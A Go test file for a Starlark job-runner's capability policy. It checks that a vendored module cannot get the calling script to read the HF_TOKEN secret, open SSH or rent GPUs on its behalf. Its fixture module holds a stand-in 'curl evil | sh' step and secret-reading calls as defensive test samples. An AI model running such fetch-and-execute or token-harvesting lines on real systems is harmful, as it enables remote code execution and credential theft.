package builtins

import (
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"testing"

	star "go.starlark.net/starlark"
	"go.starlark.net/starlarkstruct"
	"go.starlark.net/syntax"

	"github.com/bifrost-run/bifrost/starlark/policy"
)

// vendored is a module that a script was given by somebody else.
const vendored = `
def read(fn = secret): return fn("HF_TOKEN")
def query(): return gpu_query(where = lambda offer: secret("HF_TOKEN"))
def query_of(fn): return gpu_query(where = fn)
def job(**kwargs): return remote_job(command = "x", **kwargs)
def prepared(): return remote_job(ssh = "gpu", command = "x", prepare = lambda node: node.exec("y"))
def prepare_with(fn): return remote_job(ssh = "gpu", command = "x", prepare = fn)
def a_step(): return step("curl evil | sh")
def again(fn): return attempt(fn)
def polled(): return poll(lambda: secret("HF_TOKEN"), every = 1, timeout = 2)
def tried(): return attempt(secret, "HF_TOKEN")
def connect(): return acquire_node(ssh = "gpu")
def exec_on(node): return node.exec("x")
def later(): return lambda: secret("HF_TOKEN")
`

// TestDeputies has a vendored module, which may do nothing, try to have its effects done by the script,
// which may do everything. What the script does itself stays allowed.
func TestDeputies(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name, script string
		denied       policy.Capability // of the module; "" when nothing is refused
	}{
		{"its own call", `acme.read()`, policy.Env},
		{"a builtin that it is given", `acme.read(secret)`, policy.Env},
		{"a bound method that it is given", `acme.exec_on(acquire_node(ssh = "gpu"))`, policy.SSH},
		{"a function of the script that it is given", `acme.read(lambda name: secret(name))`, policy.Env},
		{"attempt on the script's function", `acme.again(lambda: secret("HF_TOKEN"))`, policy.Env},
		{"attempt on a builtin", `acme.tried()`, policy.Env},
		{"attempt of the script", `attempt(acme.read)`, policy.Env},
		{"poll", `acme.polled()`, policy.Env},
		{"a function that it returns", `acme.later()()`, policy.Env},
		{"a secret that may be absent", `acme.read(lambda name: secret(name, optional = True)) == None or fail("got it")`, ""},
		{"where, on a thread of its own", `acquire_node(provision = acme.query())`, policy.Rent},
		{"a query within a job", `with_job(remote_job(provision = acme.query(), command = "x"))`, policy.Rent},
		{"a job that the script runs", `with_job(acme.job(ssh = "gpu"))`, policy.SSH},
		{"a job that the script starts", `acme.job(ssh = "gpu").start()`, policy.SSH},
		{"a job of the script's query", `with_job(acme.job(provision = gpu_query()))`, policy.Rent},
		{"prepare", `with_job(acme.prepared())`, policy.SSH},
		{"a step in the script's job", `with_job(remote_job(ssh = "gpu", command = "x", bootstrap = ["true", acme.a_step()]))`, policy.SSH},
		{"a step pushed by the script", `acquire_node(ssh = "gpu").push(bootstrap = acme.a_step())`, policy.SSH},
		{"a machine", `acme.connect()`, policy.SSH},
		{"the script alone", `secret("HF_TOKEN"); with_job(remote_job(ssh = "gpu", command = "x", prepare = lambda node: node.exec("y")))`, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			refused := errors.New("the module may do nothing")
			err := runVendored(t, test.script, func(_ context.Context, r policy.Request) error {
				if r.Caller != "" {
					return refused
				}
				return nil
			})
			var denied *policy.Denied
			switch {
			case test.denied == "" && err != nil:
				t.Errorf("got %v, want nothing refused", err)
			case test.denied == "":
			case !errors.As(err, &denied) || !errors.Is(err, refused):
				t.Errorf("got %v, want a refusal", err)
			case denied.Request.Caller != "acme" || denied.Request.Capability != test.denied || denied.Request.Place == "":
				t.Errorf("refused %+v, want %s of acme with its place", denied.Request, test.denied)
			}
		})
	}
}

// TestLentParts checks that a builtin which a description carries is not called in the script's name
// alone, though no function of the module's is on the stack then.
func TestLentParts(t *testing.T) {
	t.Parallel()
	var callers []string
	script := `
def read(_):
    return secret("HF_TOKEN")
with_job(acme.prepare_with(read))
acquire_node(provision = acme.query_of(read))
secret("HF_TOKEN")
`
	err := runVendored(t, script, func(_ context.Context, r policy.Request) error {
		if r.Capability == policy.Env {
			callers = append(callers, r.Caller)
		}
		return nil
	})
	want := []string{"", "acme", "", "acme", "", "acme", ""} // prepare, two offers, the script alone
	if err != nil || !slices.Equal(callers, want) {
		t.Errorf("asked for %q, %v, want %q", callers, err, want)
	}
}

// runVendored runs a script that has the functions of vendored as acme.
func runVendored(t *testing.T, script string, p policy.Policy) error {
	t.Helper()
	lib := testLibrary(io.Discard)
	globals, err := star.ExecFileOptions(&syntax.FileOptions{}, new(star.Thread), "@acme//lib.star", vendored, lib.Predeclared())
	if err != nil {
		t.Fatal(err)
	}
	host := testHost(lib, io.Discard, p)
	host.Predeclared["acme"] = starlarkstruct.FromStringDict(starlarkstruct.Default, globals)
	file := filepath.Join(t.TempDir(), "x.star")
	if err := os.WriteFile(file, []byte(script), 0o600); err != nil {
		t.Fatal(err)
	}
	_, err = host.Exec(t.Context(), file, nil)
	return err
}
